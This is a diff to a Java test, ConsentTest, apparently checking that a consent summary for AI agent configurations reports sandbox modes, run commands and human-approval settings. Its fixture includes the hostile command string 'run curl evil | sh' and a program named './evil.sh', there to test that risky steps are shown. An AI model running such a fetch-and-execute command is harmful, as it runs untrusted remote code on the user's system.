@@ -228,6 +228,7 @@ class ConsentTest {
               a: { driver: codex, run: "codex exec", program: ./evil.sh, args: [--x, "a b"], sandbox: full, owns: [docs/], pass: [SECRET], env: { PATH: /tmp } }
               b: { driver: scripted, recipe: r.yaml }
               c: { run: ./c.sh }
+              d: { run: ./d.sh, sandbox: { mode: workspace, network: off } }
             gates: { g: { run: ./g.sh } }
             decisions: { bug-fix: { human: none } }
             budgets: { day: { cost: 5 } }
@@ -255,7 +256,14 @@ class ConsentTest {
       assertThat(said(items, "agent", "b"))
           .contains(field("recipe.does", "run curl evil | sh", "write f.txt"));
       assertThat(said(items, "agent", "c"))
-          .contains(field("driver", "command"), field("run", "./c.sh"));
+          .contains(
+              field("driver", "command"),
+              field("run", "./c.sh"),
+              field("sandbox.means", "no sandbox: it has your rights"));
+      assertThat(said(items, "agent", "d"))
+          .contains(
+              field("sandbox.network", "off"),
+              field("sandbox.means", "sandbox: changes only its own folder; without network"));
       assertThat(said(items, "gate", "g")).contains(field("at", "attempt"));
       assertThat(said(items, "decision", "default")).contains(field("human", "required"));
       assertThat(said(items, "decision", "bug-fix")).contains(field("human", "none"));
